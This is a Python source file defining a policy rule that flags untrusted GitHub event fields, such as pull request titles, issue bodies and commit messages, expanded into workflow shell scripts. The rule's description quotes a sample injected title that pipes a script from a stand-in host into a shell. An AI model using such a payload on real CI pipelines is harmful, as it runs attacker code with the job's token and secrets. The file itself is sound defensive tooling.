"""PE-WF-006: attacker-controlled event data must not be expanded into shell scripts."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pe_policy.engine.python_rules import RuleContext, Violation, rule
from pe_policy.models.workflow import CompositeAction, Workflow

from .lib.expressions import expressions
from .lib.scripts import iter_scripts

# Fields anyone who can open an issue, a pull request or a fork controls: GitHub's
# security-hardening guide ("Understanding the risk of script injections") plus the
# same data reached through other events (workflow_run, check_suite, edits).
# `*` stands for any one segment (an array index or `*`).
UNTRUSTED_FIELDS: tuple[str, ...] = (
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.changes.title.from",
    "github.event.changes.body.from",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.merge_group.head_commit.message",
    "github.event.check_suite.head_branch",
    "github.event.check_run.check_suite.head_branch",
)
_PATTERNS = tuple(tuple(field.split(".")) for field in UNTRUSTED_FIELDS)

# a context reference inside a normalised expression body (`a.b.*.c`, `a.b.0.c`)
_REFERENCE = re.compile(r"(?<![\w.])github(?:\.(?:[\w-]+|\*))*", re.IGNORECASE)
_INDEX = re.compile(r"\[(\d+|\*)\]")


def _segments_match(ref: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
    return all(p == "*" or r == p for r, p in zip(ref, pattern, strict=False))


def untrusted_field(reference: str, whole_object_ok: bool) -> str | None:
    """How a message names the untrusted data `reference` reaches, or None.

    A whole object (`github.event`) counts only when it is serialised
    (`whole_object_ok` False), as `toJSON(github.event)` prints every field.
    """
    ref = tuple(reference.lower().split("."))
    for pattern in _PATTERNS:
        if len(ref) >= len(pattern) and _segments_match(ref, pattern):
            return f"`{reference}`"
        if not whole_object_ok and len(ref) < len(pattern) and _segments_match(ref, pattern):
            return f"`{reference}` (it includes `{'.'.join(pattern)}`)"
    return None


def untrusted_references(body: str) -> Iterator[str]:
    """Untrusted fields an expression body puts into its result."""
    body = _INDEX.sub(r".\1", body)
    for match in _REFERENCE.finditer(body):
        # a whole object (`github.event`) only leaks when serialised: toJSON(github.event)
        serialised = body[: match.start()].lower().endswith(("tojson(", "join("))
        field = untrusted_field(match.group(0), whole_object_ok=not serialised)
        if field:
            yield field


@rule(
    "PE-WF-006",
    severity="critical",
    kinds=["workflow", "action"],
    title="No untrusted event data interpolated into run: scripts",
    description=(
        "`${{ }}` expressions are pasted into the script before the shell runs it, so a pull "
        "request title such as `\"; curl evil.sh | sh #` becomes code running with the job's "
        "token and secrets. Checked: `run:` scripts and `actions/github-script` scripts, for the "
        "fields GitHub's hardening guide lists as untrusted (titles, bodies, comments, head "
        "branch names, commit messages and authors, page names) and their equivalents in "
        "`workflow_run`/`check_suite` events, including `toJSON(github.event)`. Values passed "
        "through `env:` are not reported: that is the fix."
    ),
    remediation=(
        "Pass the value through an environment variable and quote it in the script: "
        "`env: {TITLE: ${{ github.event.pull_request.title }}}` then `echo \"$TITLE\"`."
    ),
    source="seed 003 (security)",
)
def untrusted_input(workflow: Workflow | CompositeAction, ctx: RuleContext) -> Iterator[Violation]:
    for script in iter_scripts(workflow):
        for text, field in _expressions_with_fields(script.text):
            yield Violation(
                f"untrusted {field} is expanded into a {script.where}: pass it through `env:` "
                "and reference the variable instead",
                script.path,
                snippet=text,
            )


def _expressions_with_fields(script: str) -> Iterator[tuple[str, str]]:
    for expression in expressions(script):
        if expression.is_boolean:
            continue
        for field in dict.fromkeys(untrusted_references(expression.body)):
            yield expression.text, field
